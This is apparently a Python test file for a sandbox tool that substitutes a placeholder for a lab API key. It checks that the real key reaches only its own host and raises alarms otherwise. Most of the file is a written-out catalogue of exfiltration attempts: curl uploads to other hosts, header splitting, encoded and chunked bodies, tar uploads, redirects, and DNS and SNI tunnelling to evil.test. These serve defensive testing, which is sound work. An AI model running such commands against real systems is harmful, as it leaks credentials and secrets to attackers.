"""A secret reaches its own host, in its own place, and nothing else, whatever programs inside try: another host, port or
header, plain HTTP, redirects, bodies in every disguise, DNS, TRACE, pages that show what they were sent, the key of an
attacker's. Each attack raises an alarm, and the same request without the placeholder passes. The value is found in
nothing that came back, and neither it nor the placeholder is in the log."""

import contextlib
import http.server
import json
import os
import pathlib
import shutil

from bailey_test import SESSIONS, bailey, repo
from network_lab import certificate, configure, enter, rule, serve

VALUE = "sk-lab-" + "Rq7Zx2Lp9Kt4Vb8Nw1Jc6Hd3Gf5Fs0Dy"
os.environ["LAB_KEY"] = VALUE


class Mirror(http.server.BaseHTTPRequestHandler):
    """Answers with all that it was sent, and remembers it."""

    protocol_version = "HTTP/1.1"

    def do_GET(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        text = f"{self.command} {self.path}\n{self.headers}".encode() + body
        self.server.seen.append(text.decode("latin-1"))
        status, fields = 200, {}
        if self.path.startswith("/to/"):
            status, fields = 302, {"Location": self.path.removeprefix("/to/")}
        elif self.path.startswith("/back"):
            status, fields = 302, {"Location": f"https://other.test:{other.server_port}/?key=" + self.headers.get("x-api-key", "")}
        elif self.path == "/error":
            status = 500
        self.send_response(status)
        self.send_header("Content-Length", str(len(text)))
        for name, value in fields.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(text)

    do_POST = do_PUT = do_TRACK = do_TRACE = do_GET

    def log_message(self, *_):
        pass

    def handle(self):
        with contextlib.suppress(OSError):  # requests that are cut off are part of the test
            super().handle()


enter(["keep.test", "other.test"])
ca, pem = certificate(["keep.test", "other.test"])
os.environ["SSL_CERT_FILE"] = str(ca)
home, second, other, plain = (serve(pem, Mirror), serve(pem, Mirror), serve(pem, Mirror), serve(None, Mirror))
h, s, o, p = (server.server_port for server in (home, second, other, plain))
configure(
    rule("home", "keep.test", [h, p]),
    rule("second", "keep.test", [s], inspect=True),
    rule("other", "other.test", [o], inspect=True),
    f"""[[secret]]
id = "lab"
source = "env:LAB_KEY"
hosts = ["keep.test:{h}"]
use = ["header:x-api-key", "bearer", "basic", "query:key", "json:/auth/key"]
env = "LAB_KEY"
""",
)
project = repo()
HOME, SECOND, OTHER, PLAIN = f"https://keep.test:{h}", f"https://keep.test:{s}", f"https://other.test:{o}", f"http://keep.test:{p}"
CURL = "curl -sS -m 20 -w '\\n%{http_code}\\n'"


def inside(programs):
    """Runs them one after the other in a session; {name: what it printed}, its placeholder, and its credential events."""
    programs = programs | {"placeholder": 'printf %s "$LAB_KEY"'}
    script = "\n".join(f"echo '== {name}'; ( {program} ) 2>&1" for name, program in programs.items())
    done = bailey("run", "shell", project, "-y", "--", "bash", "-c", script, status=None, timeout=240)
    assert VALUE not in done.out and VALUE not in done.err, "the value came back"
    parts = dict(part.split("\n", 1) for part in done.out.split("== ")[1:])
    assert list(parts) == list(programs), (done.out, done.err)
    events = [json.loads(line) for line in bailey("audit", "--category", "credential", "--json").out.splitlines()]
    return parts, parts.pop("placeholder").strip(), [event for event in events if event["action"].startswith("secret_")]


def node(program):
    return f"node -e '{program}'" if shutil.which("node", path="/usr/bin:/usr/local/bin") else "true"


# In its place: the server has the value, the client sees its placeholder.
K = "$LAB_KEY"
good = {
    "header": f'{CURL} -H "x-api-key: {K}" {HOME}/echo',
    "http2": f'{CURL} --http2 -H "x-api-key: {K}" {HOME}/echo',
    "bearer": f'{CURL} -H "Authorization: Bearer {K}" {HOME}/echo',
    "basic": f'{CURL} -u "me:{K}" {HOME}/echo',
    "query": f'{CURL} "{HOME}/echo?a=1&key={K}"',
    "json": f"""{CURL} -H 'Content-Type: application/json' -d "{{\\"auth\\":{{\\"key\\":\\"{K}\\"}}}}" {HOME}/echo""",
    "error": f'{CURL} -H "x-api-key: {K}" {HOME}/error',
    "python": f"""python3 -c 'import os, urllib.request as u
print(u.urlopen(u.Request("{HOME}/echo", headers={{"x-api-key": os.environ["LAB_KEY"]}})).read().decode())'""",
    "node": node(f'fetch("{HOME}/echo",{{headers:{{"x-api-key":process.env.LAB_KEY}}}}).then(r=>r.text()).then(console.log)')
    + " || true",
    "none": f"{CURL} {HOME}/echo; {CURL} {SECOND}/echo; {CURL} {OTHER}/echo; {CURL} {PLAIN}/echo; {CURL} -d x=1 {OTHER}/echo",
}
answers, placeholder, events = inside(good)
assert placeholder.startswith("sk-") and len(placeholder) == len(VALUE) and placeholder != VALUE, (placeholder, answers, events)
for name in ("header", "http2", "bearer", "query", "json", "error", "python"):
    assert placeholder in answers[name], (name, answers[name])
assert "500" in answers["error"]
with_value = [text for text in home.seen if VALUE in text]
assert len(with_value) >= 7, (len(with_value), home.seen)
assert answers["none"].count("\n200\n") == 5, answers["none"]
used = [event for event in events if event["action"] == "secret_used"]
assert len(used) >= 8 and all(event["subject"]["secret_id"] == "lab" and event["decision"] == "allow" for event in used), events
assert [event for event in events if event["action"] == "secret_echoed"], events
assert not [event for event in events if event["action"] in ("secret_misplaced", "secret_pinned")], events

# Anywhere else: nothing leaves.
before = {server: len(server.seen) for server in (home, second, other, plain)}
misplaced = {
    "other host": f'{CURL} -H "x-api-key: {K}" {OTHER}/',
    "other host, http2": f'{CURL} --http2 -H "Authorization: Bearer {K}" {OTHER}/',
    "other host, basic": f'{CURL} -u "{K}:" {OTHER}/',
    "other port": f'{CURL} -H "x-api-key: {K}" {SECOND}/',
    "plain": f'{CURL} -H "x-api-key: {K}" {PLAIN}/',
    "other header": f'{CURL} -H "X-Other: {K}" {HOME}/',
    "cookie": f'{CURL} -b "a={K}" {HOME}/',
    "path": f"{CURL} {HOME}/{K}/x",
    "other parameter": f'{CURL} "{HOME}/?q={K}"',
    "splitting": f'{CURL} -H "x-api-key: {K}%0d%0aX-Evil: 1" {HOME}/',
    "override": f'{CURL} -H "x-api-key: {K}" -H "X-HTTP-Method-Override: TRACE" {HOME}/',
    "track": f'{CURL} -X TRACK -H "x-api-key: {K}" {HOME}/',
    "body": f'{CURL} -d "x={K}" {HOME}/',
    "body, other host": f'{CURL} --data-binary "{{\\"x\\":\\"{K}\\"}}" {OTHER}/',
    "form": f'{CURL} -F "file={K}" {OTHER}/',
    "gzip": f'printf "some text {K}" | gzip | {CURL} -H "Content-Encoding: gzip" --data-binary @- {OTHER}/',
    "gzip file": f'printf "some text {K}" | gzip | {CURL} --data-binary @- {OTHER}/',
    "base64": f'printf "x {K}" | base64 | {CURL} --data-binary @- {OTHER}/',
    "hex": f'printf "{K}" | od -An -v -tx1 | tr -d " \\n" | {CURL} --data-binary @- {OTHER}/',
    "url": f"""python3 -c 'import os; print("".join("%%%02x" % b for b in os.environ["LAB_KEY"].encode()))' | {CURL} --data-binary @- {OTHER}/""",
    "chunks": f"""python3 -c 'import http.client, os, ssl
c = http.client.HTTPSConnection("other.test", {o})
c.request("POST", "/", body=(x.encode() for x in os.environ["LAB_KEY"]), encode_chunked=True, headers={{"Transfer-Encoding": "chunked"}})
print(c.getresponse().status)'""",
    "tar": f'cd /tmp; printf "{K}" >key.txt; tar cz key.txt | {CURL} -T - {OTHER}/up',
    "redirect": f'{CURL} -L --location-trusted -H "x-api-key: {K}" {HOME}/to/{OTHER}/',
    "reflected redirect": f'{CURL} -L -H "x-api-key: {K}" {HOME}/back',
    "connect": f'{CURL} -x "$https_proxy" https://{K}.evil.test/ || echo 403',
}  # fmt: skip
answers, placeholder, events = inside(misplaced)
for name, answer in answers.items():
    assert "403" in answer, (name, answer)
for server, count in before.items():
    for text in server.seen[count:]:
        # Of a request whose body was refused the head may have left; it holds nothing.
        assert text.startswith(("GET /to/", "GET /back", "POST /", "PUT /up")), f"it left: {text}"
        assert placeholder not in text, text
alarms = [event for event in events if event["action"] == "secret_misplaced"]
assert len(alarms) >= len(misplaced), (len(alarms), len(misplaced), [event["subject"] for event in alarms])
assert all(event["level"] == "alert" and event["decision"] == "deny" and event["tier"] == 3 for event in alarms), alarms

# TRACE is refused to everybody; names are asked for in vain; somebody else's key is no use on this host.
before = len(home.seen), len(other.seen)
answers, placeholder, events = inside(
    {
        "trace": f'{CURL} -X TRACE -H "x-api-key: {K}" {HOME}/',
        "dns": 'dig +time=5 +tries=1 "$LAB_KEY.evil.test"; dig +time=5 +tries=1 TXT "${LAB_KEY:0:20}.${LAB_KEY:20}.evil.test"',
        "dns, upper case": 'dig +tcp +time=5 +tries=1 "$(printf %s "$LAB_KEY" | tr a-z A-Z).keep.test"',
        "dns, hex": """dig "$(printf %s "$LAB_KEY" | od -An -v -tx1 | tr -d ' \\n' | sed 's/.\\{60\\}/&./g').evil.test" """,
        "allowed name": "dig +time=5 +tries=1 keep.test",
        "pinned": f'{CURL} -H "x-api-key: sk-lab-attacker" {HOME}/',
        "pinned, other field": f'{CURL} -H "x-api-key: {K}" -H "Authorization: Bearer attacker" {HOME}/',
        "not pinned": f'{CURL} -H "x-api-key: sk-lab-attacker" {OTHER}/',
        "sni": f"openssl s_client -connect keep.test:{s} -servername $LAB_KEY.evil.test </dev/null || echo refused",
    }
)
assert "403" in answers["trace"]
for name in ("dns", "dns, upper case", "dns, hex"):
    assert "NXDOMAIN" in answers[name] and "NOERROR" not in answers[name], (name, answers[name])
assert "NOERROR" in answers["allowed name"], answers
for name in ("pinned", "pinned, other field"):
    assert "another credential" in answers[name] and "403" in answers[name], (name, answers[name])
assert "200" in answers["not pinned"], answers
assert "refused" in answers["sni"], answers
assert len(home.seen) == before[0] and len(other.seen) == before[1] + 1
assert len([event for event in events if event["action"] == "secret_pinned"]) == 2, events
misplaced_names = [event for event in events if event["action"] == "secret_misplaced"]
assert len(misplaced_names) >= 2, events

# Nothing of it is in any log or file of a session.
for path in pathlib.Path(SESSIONS).rglob("*"):
    if path.is_file() and path.name.endswith((".jsonl", ".json", ".log")):
        text = path.read_text(errors="replace")
        assert VALUE not in text, path
        assert path.name != "audit.jsonl" or placeholder not in text, path
